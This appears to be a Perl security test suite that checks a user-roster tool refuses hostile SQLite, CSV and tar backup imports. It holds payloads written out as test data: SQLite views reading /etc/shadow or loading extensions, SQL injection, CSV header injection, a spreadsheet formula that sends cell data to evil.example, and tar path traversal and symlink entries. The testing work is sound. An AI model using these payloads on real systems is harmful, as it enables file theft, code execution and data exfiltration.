# CVE-2022-35737, CWE-1236, CWE-20: files that an administrator was given: SQLite, CSV and backups that do more than hold data.
use v5.36;

use File::Temp ();
use Test::More;
use Roster::Attack;
use Roster::Import qw(release user);

my $sqlite = eval { Roster::Database::find_program('sqlite3') };
my $files = File::Temp->newdir;

# Ends by itself, with an error of ours: no signal, no success; what was there is as it was.
sub is_refused ($roster, $name, @command) {
    local $Test::Builder::Level = $Test::Builder::Level + 1;
    my $before = $roster->sql('SELECT COUNT(*), MAX(created_at) FROM user');
    my $result = $roster->ctl(@command);
    ok $result->{status} =~ /^\d+$/ && $result->{status} > 0 && $result->{status} < 64,
        "$name: refused, with $result->{status}"
        or diag $result->{out} . $result->{err};
    unlike $result->{out} . $result->{err}, qr/[\e\a\x9b]/, '... with nothing for the terminal';
    is $roster->sql('SELECT COUNT(*), MAX(created_at) FROM user'), $before, '... and changes nothing';
    return $result;
}

sub database ($name, $sql) {
    my $file = "$files/$name.db";
    open my $in, '|-', "$sqlite $file 2>/dev/null" or die "sqlite3: $!\n";
    print {$in} $sql;
    close $in;
    return $file;
}

my $tables = release('0.12.4');

attack 'SQLite' => sub ($roster) {
    plan skip_all => 'sqlite3 is not installed' if !$sqlite;
    my $person = user('hostile', name => 'N');
    my $other = $tables =~ s/CREATE TABLE "?user"?\s*\(/CREATE TABLE "people" (/ri;
    my %hostile = (
        'a view in place of a table, without an end' =>
            "$other; CREATE VIEW user AS WITH RECURSIVE r(id) AS (SELECT 'a' UNION ALL "
            . "SELECT id || 'a' FROM r) SELECT id, id AS email, id AS name FROM r;",
        'a view that loads a program' => "$other; CREATE VIEW user AS SELECT load_extension('/tmp/x.so') AS id;",
        'a view that reads a file' => "$other; CREATE VIEW user AS SELECT readfile('/etc/shadow') AS id;",
        'no tables' => 'CREATE TABLE x (y);');
    is_refused($roster, $_, 'import', 'open-webui', database($_ =~ tr/ ,/__/r, $hostile{$_}), '--dry-run')
        for sort keys %hostile;
    my $good = database('good', "$tables; $person");
    my $bytes = Roster::Database::slurp($good);
    my $at = 0;
    for my $change (
        ['no head', sub { substr $_[0], 0, 16, 'x' x 16 }],
        ['a page size of nothing', sub { substr $_[0], 16, 2, "\0\0" }],
        ['half of it', sub { substr $_[0], length($_[0]) / 2, length $_[0], '' }],
        [
            'cells that point anywhere',
            sub {
                substr $_[0], $_, 2, "\xff\xff" for map { $_ * 4096 + 8 } 1 .. length($_[0]) / 4096 - 1;
            }
        ],
        ['a schema that is no SQL', sub { $_[0] =~ s/CREATE TABLE/CREATE TABXE/g }])
    {
        my ($name, $code) = @$change;
        my $copy = $bytes;
        $code->($copy);
        my $file = "$files/broken" . ++$at . '.db';
        Roster::Database::write_file($file, $copy);
        is_refused($roster, $name, 'import', 'open-webui', $file);
    }
    # What it holds is only data: SQL and escapes in it are texts.
    my $texts = database('texts',
        "$tables; CREATE TRIGGER t AFTER INSERT ON user BEGIN DELETE FROM auth; END;"
            . user('hostile', name => "\e[2J', (SELECT 1)); DROP TABLE user; -- "));
    my $result = $roster->ctl('import', 'open-webui', $texts, '--dry-run');
    unlike $result->{out} . $result->{err}, qr/[\e\a]/, 'an escape in a name does not reach the terminal';
    $result = $roster->ctl('import', 'open-webui', $good, '--dry-run');
    like $result->{out}, qr/^user +1 +1 /m, 'a good file is taken' or diag $result->{out} . $result->{err};
};

attack 'CSV' => sub ($roster) {
    my $import = sub ($text, $name) {
        my $file = "$files/people.csv";
        Roster::Database::write_file($file, $text);
        return is_refused($roster, $name, 'user', 'import', $file, '--role', 'user', '--no-password');
    };
    $import->("email,name\na\@example.org,\"Ann\e[2J\"\n", 'an escape in a name');
    $import->("email,name\n\"a\@example.org\r\nBcc: evil\@evil.example\",Ann\n", 'a line end in an address');
    $import->("email,name,role\na\@example.org,Ann,superadmin\n", 'a role that there is not');
    $import->("email,name\na\@example.org,\"Ann", 'a quote without an end');
    $import->("email,name\n" . 'a' x 5_000_000 . "\@example.org,Ann\n", 'a field of megabytes');
    $import->("\0\0\0\0email,name\n", 'NUL');
    $import->("PK\3\4" . "\0" x 100, 'a spreadsheet');
    $import->("email,name\n" . ",\n" x 1000, 'nobody at all');
};

attack 'formulas in a list for a spreadsheet' => sub ($roster) {
    my @formulas = ('=HYPERLINK("https://evil.example/?"&A1)', '+cmd|x', '-2+3', '@SUM(A1)', "=1+1\"';");
    my @people = map { $roster->add_user(name => $_) } @formulas;
    my $csv = $roster->ctl('user', 'export')->{out};
    for my $i (0 .. $#people) {
        my ($line) = grep { /\Q$people[$i]{email}\E/ } split /\n/, $csv;
        unlike $line, qr/(?:^|,)"?[=+\@-]/, "no spreadsheet calculates $formulas[$i]";
        like $line, qr/,"?'/, '... which stands behind a quote';
    }
};

attack 'backups' => sub ($roster) {
    my $file = "$files/backup.tar";
    for my $case (
        ['rubbish', "rubbish\n" x 1000],
        ['nothing', ''],
        ['zeros', "\0" x 10_240],
        ['compressed', "\x1f\x8b\x08\0\0\0\0\0\0\3" . 'x' x 1000],
        ['a name that leads elsewhere', tar_entry('../../etc/cron.d/evil', "* * * * * root true\n")],
        ['a link', tar_entry('user.json', '', '2', '/etc/passwd')],
        ['a length that is not true', tar_entry('roster.json', '{}') =~ s/00000000002/77777777777/r])
    {
        Roster::Database::write_file($file, $case->[1]);
        is_refused($roster, $case->[0], 'restore', $file, '--yes');
    }
};

# An entry of a tar file (POSIX ustar).
sub tar_entry ($name, $content, $type = '0', $link = '') {
    my $head = pack 'a100a8a8a8a12a12a8a1a100a8a32a32a8a8a155x12', $name, '0000644', '0000000', '0000000',
        sprintf('%011o', length $content), '00000000000', ' ' x 8, $type, $link, "ustar\00000", 'root', 'root', '', '',
        '';
    substr $head, 148, 8, sprintf("%06o\0 ", unpack '%32C*', $head);
    return $head . $content . "\0" x (-length($content) % 512) . "\0" x 1024;
}

end_of_attacks;
